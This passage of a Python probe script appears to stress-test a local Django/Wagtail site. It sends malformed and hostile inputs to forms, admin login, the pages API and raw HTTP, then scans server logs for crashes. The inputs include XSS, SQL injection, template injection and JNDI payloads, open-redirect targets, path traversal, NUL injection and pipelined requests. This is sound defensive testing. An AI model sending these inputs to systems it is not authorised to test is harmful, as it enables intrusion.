                    self.form_post(g, f"{accept} comment with real token {comment[:10]!r}", "/feedback/opmerking/",
                                   {"token": self.comment_token, "comment": comment, "anchor": XSS,
                                    "next": "//evil.example"}, headers=[("Accept", accept)])  # fmt: skip
            self.form_post(g, f"{accept} comment duplicated token", "/feedback/opmerking/",
                           [("token", "a"), ("token", self.comment_token or "b"), ("comment", "x")],
                           headers=[("Accept", accept)])  # fmt: skip

    def g_checklist_forms(self) -> None:
        g = "checklist-form"
        key = self.statement_keys[0]
        for target in ["/checklist/resultaat/", "/checklist/opslaan/"]:
            for value in ["0", "5", "-1", "3.0", "true", "null", "100000000000000000000", " 3 ", "３", "٣", "3\x00",
                          "", "%", XSS, SQLI, "a" * 5000, "1e0", "+3", "0x3"]:  # fmt: skip
                self.form_post(g, f"{target} score={value[:20]!r}", target,
                               {f"score-{key}": value, "submission": secrets.token_urlsafe(16)})  # fmt: skip
            for label, pairs in [
                ("unknown key", [("score-9.9", "3")]),
                ("hostile key", [(f"score-{XSS}", "3")]),
                ("empty key", [("score-", "3")]),
                ("duplicate field", [(f"score-{key}", "3"), (f"score-{key}", "4")]),
                ("101 score fields", [(f"score-{i}.1", "3") for i in range(101)]),
                ("1000 keys", [(f"score-{i}", "1") for i in range(1000)]),
                ("all statements", [(f"score-{k}", "4") for k in self.statement_keys]),
                ("no scores", [("x", "1")]),
                ("series forged", [(f"score-{key}", "3"), ("series", "A" * 32)]),
                ("series hostile", [(f"score-{key}", "3"), ("series", XSS)]),
                ("series too long", [(f"score-{key}", "3"), ("series", "A" * 5000)]),
                ("series real", [(f"score-{key}", "2"), ("series", self.series_token or "x")]),
                ("submission hostile", [(f"score-{key}", "3"), ("submission", XSS)]),
                ("submission long", [(f"score-{key}", "3"), ("submission", "A" * 65)]),
                ("submission duplicated", [(f"score-{key}", "3"), ("submission", "A" * 20), ("submission", "B" * 20)]),
                ("submission NUL", [(f"score-{key}", "3"), ("submission", "A" * 20 + "\x00")]),
                ("submission newline", [(f"score-{key}", "3"), ("submission", "A" * 20 + "\n")]),
            ]:  # fmt: skip
                if target.endswith("opslaan/") and not any(name == "submission" for name, _ in pairs):
                    pairs = [*pairs, ("submission", secrets.token_urlsafe(16))]
                self.form_post(g, f"{target} {label}", target, pairs)
            self.form_post(g, f"{target} without CSRF", target, {f"score-{key}": "3"}, csrf=False)
            self.send(g, f"{target} GET", "GET", target + "?score-1.1=3")
        # A repeated submit with the same submission id: idempotent, not an IntegrityError.
        submission = secrets.token_urlsafe(16)
        for _ in range(3):
            self.form_post(
                g, "repeated save", "/checklist/opslaan/", {f"score-{key}": "4", "submission": submission}
            )

    def g_measurements(self) -> None:
        g = "measurement"
        real_m, real_s = self.measurement_token or "A" * 32, self.series_token or "A" * 32
        forged = ["", "a", "A" * 19, "A" * 20, "A" * 32, "A" * 64, "A" * 65, "A" * 200, "A" * 201, "%00", "..",
                  "%2e%2e", "%2F", quoted(XSS), quoted(SQLI), quoted(SSTI), "%FF%FE" * 10, quoted("١" * 30),
                  quoted("ǅ" * 30), real_m.upper(), real_m + "%0A", real_m + "%00", real_m + "%20", real_s,
                  real_m[:-1], quoted(real_m + "\u200b"), "*", "%25", "_" * 32, "-" * 32, "~" * 32]  # fmt: skip
        for token in forged:
            for kind in ["meting", "reeks"]:
                for suffix in ["", "verwijderen/", "nieuw/"]:
                    url = f"/checklist/{kind}/{token}/{suffix}"
                    self.send(g, f"GET {url[:60]}", "GET", url)
                    if suffix == "verwijderen/":
                        self.form_post(g, f"POST {url[:60]}", url, {})
                        self.form_post(g, f"POST no CSRF {url[:60]}", url, {}, csrf=False)
        self.send(g, "raw invalid UTF-8 token", "GET", b"/checklist/meting/\xff\xfe" + b"A" * 30 + b"/")
        self.send(g, "raw NUL token", "GET", b"/checklist/reeks/" + b"A" * 30 + b"\x00/")
        self.send(g, "series with verwijderd param", "GET", f"/checklist/reeks/{real_s}/?verwijderd=%FF")
        self.send(g, "deleted page with wat garbage", "GET", "/checklist/verwijderd/?wat=%00&wat=reeks")
        for method in ["PUT", "DELETE", "PATCH", "OPTIONS"]:
            self.send(g, f"{method} delete route", method, f"/checklist/meting/{real_m}/verwijderen/")
        # A new series form posts back with the series token.
        self.form_post(g, "results into the real series", "/checklist/resultaat/",
                       {f"score-{self.statement_keys[0]}": "1", "series": real_s})  # fmt: skip

    def g_admin(self) -> None:
        g = "admin"
        for username, password in [
            ("a" * 100_000, "x"), ("x", "a" * 100_000), ("a" * 60_000, "x"), ("a" * 5000, "b" * 5000),
            ("admin\x00", "x"), ("admin", "x\x00"), ("\xff\xfe", "\xff"), (SQLI, SQLI), (XSS, XSS),
            (SSTI, JNDI), ("", ""), ("admin", ""), (" admin ", "x"), ("ADMIN", "x"), ("\u0130", "x"),
            ("admin\u200b", "x"), ("\ud7ff", "\uffff"), ("a" * 150, "x"), ("a" * 151, "x"),
        ]:  # fmt: skip
            self.form_post(g, f"login user={username[:20]!r} pw={password[:10]!r}", "/admin/login/",
                           {"username": username, "password": password})  # fmt: skip
        for label, body in [
            ("login raw invalid UTF-8", b"username=\xff\xfe&password=\xc0\xae"),
            ("login duplicated fields", b"username=a&username=b&password=c&password=d"),
            ("login no fields", b""),
            ("login NUL raw", b"username=a\x00&password=b"),
            ("login percent garbage", b"username=%&password=%ZZ"),
        ]:
            self.form_post(g, label, "/admin/login/", body)
        for nxt in ["//evil.example/", "http://evil.example/", "/admin/\x00", "%FF", XSS, "/" * 3000,
                    "javascript:alert(1)", "/\\evil.example"]:  # fmt: skip
            self.send(g, f"login page next={nxt[:20]!r}", "GET", f"/admin/login/?next={quoted(nxt)}")
            self.form_post(g, f"login post next={nxt[:20]!r}", f"/admin/login/?next={quoted(nxt)}",
                           {"username": "nobody", "password": "x", "next": nxt})  # fmt: skip
        for path in ["/admin/pages/", "/admin/pages/3/", "/admin/pages/abc/", "/admin/pages/99999999999999999999/",
                     "/admin/api/main/pages/", "/admin/api/main/pages/?child_of=abc", "/admin/snippets/",
                     "/admin/jsi18n/", "/admin/logout/", "/admin/password_reset/", "/admin/reports/",
                     "/admin/feedback/", "/admin/checklist/", "/admin/wegwijzer/", "/admin/login/%FF/",
                     "/admin/documents/", "/admin/images/", "/admin/users/", "/admin/sites/",
                     "/admin/?next=//evil.example"]:  # fmt: skip
            self.send(g, f"admin GET {path}", "GET", path)
        self.form_post(g, "password reset hostile email", "/admin/password_reset/",
                       {"email": XSS + "@" + "a" * 300 + ".example"})  # fmt: skip
        self.form_post(g, "logout POST", "/admin/logout/", {})

    def g_wagtail_api(self) -> None:
        g = "pages-api"
        params = [
            "limit=abc",
            "limit=-1",
            "limit=0",
            "limit=99999999999999999999",
            "limit=1e3",
            "limit=%00",
            "offset=-1",
            "offset=abc",
            "offset=99999999999999999999",
            "offset=1e9",
            "fields=*",
            "fields=-",
            "fields=_",
            "fields=_,title",
            "fields=-title",
            "fields=title(foo)",
            "fields=((((",
            "fields=*,-*",
            "fields=" + ",".join(["title"] * 500),
            "fields=%FF",
            "fields=owner",
            "fields=owner(*)",
            "fields=parent(*)",
            "fields=content_type",
            "fields=locked_by",
            "fields=latest_revision",
            "fields=*,-id,-meta",
            "order=random",
            "order=-",
            "order=" + quoted(SQLI),
            "order=%FF",
            "order=title,-title",
            "order=password",
            "order=owner__password",
            "search=" + quoted(XSS),
            "search=" + "a" * 3000,
            "search=%00",
            "search=%FF",
            "search=a&order=title",
            "search_operator=xor",
            "search_operator=and&search=a",
            "type=wagtailcore.Page",
            "type=cms.Unknown",
            "type=auth.User",
            "type=users.User",
            "type=a.b.c",
            "type=%00",
            "type=" + quoted(SQLI),
            "child_of=abc",
            "child_of=-1",
            "child_of=99999999999999999999",
            "child_of=1.5",
            "child_of=root",
            "descendant_of=0",
            "descendant_of=abc",
            "descendant_of=99999999999999999999",
            "ancestor_of=abc",
            "ancestor_of=99999999999999999999",
            "id=1.5",
            "id=abc",
            "id=99999999999999999999",
            "id=-1",
            "slug=%00",
            "slug=" + quoted(SQLI),
            "html_path=/..",
            "html_path=%00",
            "html_path=%FF",
            "show_in_menus=maybe",
            "show_in_menus=%00",
            "locale=xx",
            "locale=%00",
            "translation_of=abc",
            "translation_of=99999999999999999999",
            "title=%00",
            "title=" + quoted(SQLI),
            "live=false",
            "has_children=maybe",
            "first_published_at=abc",
            "depth=abc",
            "url_path=/",
            "owner=1",
            "format=xml",
            "format=api",
            "a=1&" * 201,
        ]
        for term in ['"', "'", "*", "NEAR(", "AND OR NOT", "^", "-", ":", "(", 'a"b', '"""', "title:x", "\n",
                     " ", "\t", "\x01", "\u202e", "a*", "*a", "a -b", "{", "\\", '"a"', "a\u0000b"]:  # fmt: skip
            for extra in ("", "&order=title", "&search_operator=or", "&search_operator=and"):
                self.send(
                    g, f"pages search={term!r}{extra}", "GET", f"/api/v2/pages/?search={quoted(term)}{extra}"
                )
        for param in params:
            self.send(g, f"pages ?{param[:40]}", "GET", f"/api/v2/pages/?{param}")
        for path in ["find/?html_path=/", "find/?html_path=%FF", "find/?html_path=" + "a" * 3000,
                     "find/?id=abc", "find/?id=99999999999999999999", "find/?id=3", "find/",
                     "find/?html_path=/wegwijzer/advies/", "find/?html_path=//evil.example/",
                     "3/?fields=*", "3/?fields=%FF", "3/?fields=_", "3/?type=abc", "3/?limit=abc"]:  # fmt: skip
            self.send(g, f"pages {path[:40]}", "GET", f"/api/v2/pages/{path}")
        for param in ["format=json", "format=yaml", "format=openapi", "format=openapi-json", "format=garbage",
                      "lang=zz", "lang=%00", "lang=" + "a" * 300, "lang=../../etc", "version=%FF",
                      "version=" + quoted(SQLI), "urlconf=x"]:  # fmt: skip
            self.send(g, f"schema ?{param[:30]}", "GET", f"/api/schema/?{param}")
        self.send(g, "schema Accept yaml", "GET", "/api/schema/", [("Accept", "application/yaml")])
        self.send(
            g,
            "schema Accept openapi json",
            "GET",
            "/api/schema/",
            [("Accept", "application/vnd.oai.openapi+json")],
        )
        self.send(
            g,
            "schema Accept garbage",
            "GET",
            "/api/schema/",
            [("Accept", "application/vnd.oai.openapi;version=\xff")],
        )

    def raw_case(
        self, group: str, label: str, raw: bytes, timeout: float = 8, expect_hang: bool = False
    ) -> None:
        n = len(self.cases) + 1
        case = Case(n, group, label, "RAW", raw[:80].decode("latin-1"), "", expect_hang=expect_hang)
        self.cases.append(case)
        self.groups[group] += 1
        self.check(case, self.server.exchange(raw, timeout=timeout))

    def g_transport(self) -> None:
        """Malformed request lines and versions, pipelining, and clients that stop half-way."""
        g = "transport"
        for raw in [
            b"GET / HTTP/1.1\r\n\r\n",
            b"GET /\r\n\r\n",
            b"GET / HTTP/0.9\r\n\r\n",
            b"GET / HTTP/2.0\r\nHost: x\r\n\r\n",
            b"GET / HTTP/1.1\n\n",
            b"GET  /  HTTP/1.1\r\nHost: x\r\n\r\n",
            b"\r\n\r\nGET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
            b"GET / XTTP/1.1\r\n\r\n",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            b"\xff\xfe\xfd\r\n\r\n",
            b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + b"X: y\r\n" * 200 + b"\r\n",
            b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /health/ HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
            b"POST /api/checklist/results/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"
            b"GET /admin/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
        ]:  # fmt: skip
            self.raw_case(g, f"raw {raw[:50]!r}", raw)
        # Clients that stop half-way hold a sync worker until gunicorn's timeout (30 s): expected
        # without a buffering proxy in front, and recorded as "expected-hang".
        for label, raw in [
            ("request without the final CRLF", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n"),
            ("a TLS ClientHello on the plain HTTP port", b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + b"\x00" * 100),
        ]:  # fmt: skip
            self.raw_case(g, label, raw, timeout=4, expect_hang=True)
        self.send(g, "Content-Length 1000 with 22 bytes, connection left open", "POST", "/api/checklist/results/",
                  [("Content-Type", "application/json")], b'{"scores": {"1.1": 3}}', content_length="1000",
                  timeout=4, expect_hang=True)  # fmt: skip

    def g_cleanup(self) -> None:
        g = "cleanup"
        if self.measurement_token:
            url = f"/checklist/meting/{self.measurement_token}/verwijderen/"
            self.send(g, "confirm page", "GET", url)
            self.form_post(g, "delete the probe's measurement", url, {})
            self.form_post(g, "delete it again", url, {})
            series = f"/checklist/reeks/{self.series_token}/verwijderen/"
            self.form_post(g, "delete the probe's series", series, {})
        for url in self.public_urls()[:12]:
            self.send(g, f"still healthy {url}", "GET", url)


# --- server log --------------------------------------------------------------------------------


_DJANGO_RECORD = re.compile(
    r"^\d{4}-\d\d-\d\d [\d:,]+ (?P<level>[A-Z]+) (?P<logger>\S+) \[(?P<rid>[^\]]*)\] (?P<msg>.*)"
)
_GUNICORN_RECORD = re.compile(r"^\[[^\]]+\] \[\d+\] \[(?P<level>[A-Z]+)\] (?P<msg>.*)")


def scan_log(path: Path, offset: int, run_id: str) -> dict[str, Any]:
    """Tracebacks and ERROR records the server wrote since `offset`.

    Server errors are Django's "Internal Server Error" records and gunicorn's "Error
    handling request" (a crash outside Django's handler). Django also logs every
    SuspiciousOperation (bad Host, too many fields, too big a body) at ERROR level
    on a `django.security.*` logger, with a traceback; those requests got a 400 and
    are counted apart as expected.
    """
    with path.open("rb") as handle:
        handle.seek(offset)
        text = handle.read().decode("utf-8", "replace")
    lines = text.splitlines()
    server_errors: Counter[str] = Counter()
    examples: dict[str, str] = {}
    expected: Counter[str] = Counter()
    record: dict[str, str] = {}
    case_ids: set[int] = set()
    i = 0
    while i < len(lines):
        line = lines[i]
        match = _DJANGO_RECORD.match(line) or _GUNICORN_RECORD.match(line)
        if match:
            record = {"logger": "gunicorn", "rid": "", **match.groupdict(), "line": line}
            if record["level"] in ("ERROR", "CRITICAL") and record["logger"].startswith("django.security"):
                expected[record["logger"]] += 1
            found = re.match(rf"hp-{run_id}-(\d+)$", record["rid"])
            if (
                found
                and record["level"] in ("ERROR", "CRITICAL")
                and not record["logger"].startswith("django.security")
            ):
                case_ids.add(int(found.group(1)))
        if line.startswith("Traceback"):
            j = i + 1
            while j < len(lines) and (lines[j].startswith((" ", "\t")) or not lines[j].strip()):
                j += 1
            last = lines[j] if j < len(lines) else "?"
            frames = [ln.strip() for ln in lines[i:j] if ln.strip().startswith('File "')]
            origin = next(
                (f for f in reversed(frames) if "site-packages" not in f and "/lib/python" not in f), ""
            )
            origin = origin or (frames[-1] if frames else "")
            logger = record.get("logger", "")
            if not logger.startswith("django.security") and record.get("level") in ("ERROR", "CRITICAL"):
                key = f"{last[:200]} @ {origin[:200]}"
                server_errors[key] += 1
                examples.setdefault(key, record.get("line", "")[:300])
            i = j
            continue
        i += 1
    return {
        "server_error_tracebacks": [
            {"count": count, "exception": key, "log_line": examples[key]}
            for key, count in server_errors.most_common()
        ],
        "expected_security_errors": dict(expected),
        "case_ids_with_server_errors": sorted(case_ids),
    }


# --- main ---------------------------------------------------------------------------------------


def summarize(probe: Probe, log: dict[str, Any] | None, elapsed: float) -> dict[str, Any]:
    kinds = Counter(f.kind for f in probe.findings)
    return {
        "run_id": probe.run_id,
        "requests": len(probe.cases),
        "seconds": round(elapsed, 1),
        "per_group": dict(probe.groups),
        "statuses": dict(sorted(probe.statuses.items())),
        "finding_kinds": dict(kinds),
        "findings": [f.as_json() for f in probe.findings],
        "cases": [[c.n, c.group, c.label[:100], c.method, c.target[:160], c.outcome] for c in probe.cases],
        "server_log": log,
    }


def print_report(report: dict[str, Any], cases: list[Case]) -> None:
    say(f"requests sent: {report['requests']} in {report['seconds']} s (run {report['run_id']})")
    say("per group:", ", ".join(f"{k} {v}" for k, v in report["per_group"].items()))
    say("statuses:", ", ".join(f"{k}: {v}" for k, v in report["statuses"].items()))
    say("findings:", report["finding_kinds"] or "none")
    for f in report["findings"]:
        say(f"  [{f['kind']}] #{f['n']} {f['group']}: {f['label'][:90]}")
        say(f"      {f['method']} {f['target'][:120]!r} -> {f['status']}: {f['detail'][:220]}")
    log = report.get("server_log")
    if log:
        say(f"server log: {len(log['server_error_tracebacks'])} distinct server-error tracebacks")
        for tb in log["server_error_tracebacks"]:
            say(f"  {tb['count']:4d}x {tb['exception']}")
            say(f"        {tb['log_line'][:200]}")
        expected = ", ".join(f"{k} {v}" for k, v in log["expected_security_errors"].items())
        say(f"  expected (400, logged by django.security at ERROR): {expected or 'none'}")
        by_n = {c.n: c for c in cases}
        for n in log["case_ids_with_server_errors"][:80]:
            if n in by_n:
                say(f"  server error logged for #{n} {by_n[n].group}: {by_n[n].label[:100]}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=8931)
    parser.add_argument(
        "--timeout", type=float, default=20.0, help="seconds before a request counts as a hang"
    )
    parser.add_argument("--log", type=Path, help="the server's log file, scanned for tracebacks")
    parser.add_argument("--json", type=Path, help="write the full report here")
    parser.add_argument("--verbose", action="store_true")
    parser.add_argument("--groups", help="comma-separated subset, e.g. bodies,admin (default: all)")
    args = parser.parse_args(argv)
    server = Server(args.host, args.port, args.timeout)
    probe = Probe(server, verbose=args.verbose)
    offset = args.log.stat().st_size if args.log and args.log.exists() else 0
    started = time.monotonic()
    try:
        probe.run(set(args.groups.split(",")) if args.groups else None)
    except KeyboardInterrupt:
        say("interrupted; reporting what ran", file=sys.stderr)
    elapsed = time.monotonic() - started
    time.sleep(0.5)  # let the server flush its log
    log = scan_log(args.log, offset, probe.run_id) if args.log and args.log.exists() else None
    report = summarize(probe, log, elapsed)
    if args.json:
        args.json.write_text(json.dumps(report, indent=2, ensure_ascii=False))
    print_report(report, probe.cases)
    serious = [f for f in probe.findings if f.kind not in ("expected-hang",)]
    return 1 if serious or (log and log["server_error_tracebacks"]) else 0


if __name__ == "__main__":
    sys.exit(main())
